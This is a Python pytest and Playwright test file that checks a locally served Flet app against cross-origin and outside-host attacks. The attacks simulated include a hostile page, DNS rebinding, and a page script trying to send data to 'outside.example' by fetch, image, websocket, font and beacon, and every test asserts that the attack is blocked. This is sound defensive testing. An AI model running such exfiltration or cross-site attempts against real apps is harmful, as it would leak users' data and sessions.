"""The served screens in a real browser: they open, they stay here, and a hostile page can't get at them."""

from __future__ import annotations

import functools
import http.server
import socket
import threading
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import flet as ft
import pytest

from field_app.ui.gate import COOKIE
from field_app.ui.serve import Running
from tests.browser.phone import Phone, find_chromium

if TYPE_CHECKING:
    from playwright.sync_api import Browser

TOKEN = "a-token-for-tests-only-0123456789-abcdef"
CLOSED = "The field book is not open here"
# Not one of these is in the client's own font; each makes it look for another one.
STRANGE = "→ ⌫ ◐ ♣ ✓ 漢字 א"


def draw(page: ft.Page) -> None:
    """A screen with a counter and with characters that the client has no font for."""
    seen = ft.Text("seen 0")

    def count() -> None:
        seen.value = f"seen {int(str(seen.value).split()[1]) + 1}"
        page.update()

    page.add(ft.Text("½ ≥ 8.1 kg"), ft.Text(STRANGE), seen, ft.Button("Look", on_click=count))


@pytest.fixture(scope="module")
def server() -> Iterator[Running]:
    with Running(draw, token=TOKEN) as running:
        yield running


@pytest.fixture
def inside(phone: Phone, server: Running) -> Phone:
    """A phone in which the screens are open."""
    phone.open(server.address)
    return phone


# The owner's way


def test_the_screens_open_and_answer(inside: Phone, server: Running) -> None:
    """The printed address leads to living screens at an address without the token."""
    inside.see("½ ≥ 8.1 kg")
    inside.tap("Look")
    inside.see("seen 1")
    assert inside.page.url == f"{server.origin}{server.gate.root}/"


def test_the_cookie_is_out_of_reach(inside: Phone, server: Running) -> None:
    """The browser keeps the cookie as it was meant: for the server alone, for this site, until it is closed."""
    (cookie,) = inside.context.cookies()
    assert cookie["name"] == COOKIE
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["expires"]) == (True, "Strict", -1)
    assert cookie["path"] == f"{server.gate.root}/"
    assert inside.page.evaluate("document.cookie") == ""


def test_loading_again_works(inside: Phone) -> None:
    """After a reload, and after another one, the screens are there again with what they showed."""
    inside.tap("Look")
    for _ in range(2):
        inside.reload()
        inside.see("seen 1")
    assert inside.page.evaluate(
        "navigator.serviceWorker.getRegistrations().then(all => all.filter(one => one.active).length)") == 0


def test_a_second_tab_and_a_deeper_address_work(inside: Phone, server: Running) -> None:
    """In the same browser an address inside the app opens in another tab, without the token."""
    assert inside.home == f"{server.origin}{server.gate.root}/"
    inside.page = inside.context.new_page()
    inside.visit("/lots/4K7Q")
    inside.see("seen 0")
    assert inside.page.url == f"{inside.home}lots/4K7Q"


def test_another_browser_needs_the_printed_address(
    inside: Phone, new_phone: Callable[..., Phone], server: Running,
) -> None:
    """The clean address alone opens nothing elsewhere, and the page says what to do; the printed one does."""
    other = new_phone()
    answer = other.page.goto(inside.page.url)
    assert answer is not None
    assert answer.status == 403
    assert other.page.get_by_role("heading", name=CLOSED).is_visible()
    assert other.page.get_by_text("Start field-app again, or open the address it printed.").is_visible()
    other.open(server.address)
    other.see("seen 0")


# Nothing leaves


def test_no_request_leaves_even_for_characters_without_a_font(inside: Phone, server: Running) -> None:
    """For characters that it can't draw, the client asks our server for fonts, and nobody else."""
    inside.page.wait_for_timeout(1500)
    fonts = [url for url in inside.requests.made if "noto" in url]
    assert fonts
    assert {url.rsplit("/assets/", 1)[0] for url in fonts} == {f"{server.origin}{server.gate.root}"}
    assert inside.requests.left() == []


def test_the_one_foreign_script_is_stopped(inside: Phone) -> None:
    """The client tries to load one script for animations; the policy stops it in the browser."""
    assert {urlsplit(url).path.rsplit("/", 1)[1] for url in inside.requests.stopped} == {"rive_native.js"}


def test_a_page_that_wants_to_send_something_out_can_not(inside: Phone, server: Running) -> None:
    """Even a script inside the page reaches no other host: not by fetching, sending, pictures or websockets."""
    tried = inside.page.evaluate("""async () => {
        const failed = action => Promise.resolve().then(action).then(() => 'sent', () => 'stopped');
        const told = (thing, address) => new Promise((yes, no) => {
            thing.onload = thing.onopen = yes; thing.onerror = no; if (address) thing.src = address; });
        const outside = 'http://outside.example/';
        return [
            await failed(() => fetch(outside, {mode: 'no-cors'})),
            await failed(() => told(new Image(), outside + 'x.png')),
            await failed(() => told(new WebSocket('ws://outside.example/'))),
            await failed(() => new FontFace('x', 'url(' + outside + 'x.woff2)').load()),
            await failed(() => navigator.sendBeacon(outside, 'x') || Promise.reject()),
        ];
    }""")
    # Whether a beacon was stopped is told only to the log, which the fixture reads when the test is over.
    assert tried[:4] == ["stopped"] * 4
    assert f"{server.origin}{server.gate.root}" in inside.page.url
    assert inside.requests.left() == []


# A hostile page in the same browser


class Hostile(http.server.BaseHTTPRequestHandler):
    """A page on another port of this machine, which notes what browsers send it."""

    def __init__(self, noted: list[str], *rest: Any) -> None:
        self.noted = noted
        super().__init__(*rest)

    def do_GET(self) -> None:
        self.noted.append(str(self.headers))
        body = b"<!doctype html><title>hostile</title><h1>hostile</h1>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


class Den:
    """The hostile page's server: where it is, and the headers of every request it got."""

    def __init__(self) -> None:
        self.noted: list[str] = []
        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Hostile, self.noted))
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(10)


@pytest.fixture(scope="module")
def den() -> Iterator[Den]:
    made = Den()
    yield made
    made.close()


@pytest.fixture(params=["127.0.0.1", "localhost"])
def hostile(request: pytest.FixtureRequest, phone: Phone, server: Running, den: Den) -> Phone:
    """The owner's phone, which holds the cookie, with a hostile page open."""
    den.noted.clear()
    phone.context.request.get(server.address)
    assert [cookie["value"] for cookie in phone.context.cookies()] == [server.gate.key]
    phone.page.goto(f"http://{request.param}:{den.port}/")
    return phone


@pytest.fixture
def target(server: Running) -> str:
    """What the hostile page attacks: the very address of the app, as if it had got to know even that."""
    return f"{server.origin}{server.gate.root}/"


def statuses(phone: Phone, origin: str, action: str, target: str) -> tuple[Any, list[int]]:
    """What a script of the hostile page gets, and the statuses of what our server answered to it."""
    answers: list[int] = []
    phone.page.on("response", lambda answer: answers.append(answer.status)
                     if answer.url.startswith(origin) else None)
    result = phone.page.evaluate(action, target)
    phone.page.wait_for_timeout(300)
    return result, answers


@pytest.mark.parametrize("options", [
    "{credentials: 'include'}", "{mode: 'no-cors', credentials: 'include'}",
    "{method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x'}",
    "{method: 'PUT', credentials: 'include', headers: {'X-Y': 'z'}}",
])
def test_it_can_not_fetch(hostile: Phone, server: Running, target: str, options: str) -> None:
    """No fetch of the hostile page gets a byte, and our server refuses each of them."""
    action = f"url => fetch(url, {options}).then(answer => answer.text(), () => 'nothing')"
    got, answers = statuses(hostile, server.origin, action, target)
    assert got in ("nothing", "")
    assert set(answers) <= {403}


def test_it_can_not_open_a_websocket(hostile: Phone, server: Running, target: str) -> None:
    """A websocket of the hostile page is never opened."""
    action = """url => new Promise(done => {
        const line = new WebSocket(url.replace('http', 'ws') + 'ws');
        line.onopen = () => done('open'); line.onerror = () => done('refused'); })"""
    assert hostile.page.evaluate(action, target) == "refused"


@pytest.mark.parametrize(("kind", "file"), [("script", "flutter_bootstrap.js"), ("img", "favicon.png")])
def test_it_can_not_take_in_our_files(
    hostile: Phone, server: Running, target: str, kind: str, file: str,
) -> None:
    """A script or picture of ours does not load into the hostile page."""
    action = f"""url => new Promise(done => {{
        const part = document.createElement('{kind}');
        part.onload = () => done('loaded'); part.onerror = () => done('refused');
        part.src = url + '{file}'; document.body.append(part); }})"""
    got, answers = statuses(hostile, server.origin, action, target)
    assert got == "refused"
    assert set(answers) <= {403}


def test_it_can_not_frame_us(hostile: Phone, server: Running, target: str) -> None:
    """In a frame of the hostile page our screens don't show, so nobody can be made to tap in them."""
    action = """url => new Promise(done => {
        const frame = document.createElement('iframe'); frame.src = url;
        frame.onload = () => done(frame.contentDocument ? 'readable' : 'closed'); document.body.append(frame); })"""
    got, answers = statuses(hostile, server.origin, action, target)
    assert got == "closed"
    assert set(answers) <= {403}
    assert all(frame.locator("flutter-view, flt-glass-pane").count() == 0 for frame in hostile.page.frames[1:])


def test_it_can_not_send_a_form(hostile: Phone, target: str) -> None:
    """A form that the hostile page sends to us ends at the closed page."""
    with hostile.page.expect_navigation():
        hostile.page.evaluate("""url => {
            const form = document.createElement('form'); form.method = 'post'; form.action = url;
            document.body.append(form); form.submit(); }""", target)
    assert hostile.page.get_by_role("heading", name=CLOSED).is_visible()


def test_it_can_not_hold_a_window_of_ours(hostile: Phone, server: Running, target: str) -> None:
    """A window that the hostile page opens on us shows the closed page and is out of its reach."""
    with hostile.context.expect_page() as opened:
        hostile.page.evaluate("url => { window.ours = window.open(url) }", target)
    opened.value.wait_for_load_state()
    assert opened.value.get_by_role("heading", name=CLOSED).is_visible()
    assert hostile.page.evaluate("window.ours.closed") is True


def test_its_server_does_not_get_our_cookie(hostile: Phone, server: Running, den: Den) -> None:
    """Though cookies know no ports, ours is not sent to the hostile page's own server."""
    hostile.page.evaluate("""() => Promise.all(
        ['/', '/ws', '/lots/', '/x?y'].map(path => fetch(path, {credentials: 'include'})))""")
    assert len(den.noted) >= 5  # the page itself and the four
    assert server.gate.key not in "".join(den.noted)
    assert TOKEN not in "".join(den.noted)


def test_it_can_not_lock_the_owner_out(hostile: Phone, server: Running) -> None:
    """A cookie of the same name, set by the hostile page, does not keep the owner from the screens."""
    hostile.page.evaluate(f"document.cookie = '{COOKIE}=wrong; path={server.gate.root}/'")
    hostile.page.evaluate(f"document.cookie = '{COOKIE}=wrong; path=/'")
    hostile.page = hostile.context.new_page()
    hostile.open(f"{server.origin}{server.gate.root}/")
    hostile.see("seen 0")


# A name that points here


def test_a_name_made_to_point_here_gets_nothing(chromium: Browser, server: Running) -> None:
    """In a browser that was told that a foreign name is this machine (DNS rebinding), we answer 403."""
    browser = chromium.browser_type.launch(
        executable_path=find_chromium(), args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--host-resolver-rules=MAP rebound.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"])
    try:
        page = browser.new_page()
        for path in (f"/?t={TOKEN}", f"{server.gate.root}/"):
            answer = page.goto(f"http://rebound.example:{server.port}{path}")
            assert answer is not None
            assert answer.status == 403
            assert page.get_by_role("heading", name=CLOSED).is_visible()
    finally:
        browser.close()


def test_a_stolen_cookie_under_another_name_gets_nothing(inside: Phone, server: Running) -> None:
    """Even with the browser's real cookie, a request that calls us by another name is refused."""
    (cookie,) = inside.context.cookies()
    for host, status in ((f"127.0.0.1:{server.port}", b"200"), (f"rebound.example:{server.port}", b"403")):
        with socket.create_connection(("127.0.0.1", server.port), timeout=10) as line:
            line.sendall(f"GET {server.gate.root}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
                         f"Cookie: {cookie['name']}={cookie['value']}\r\n\r\n".encode())
            assert line.makefile("rb").readline().split()[1] == status
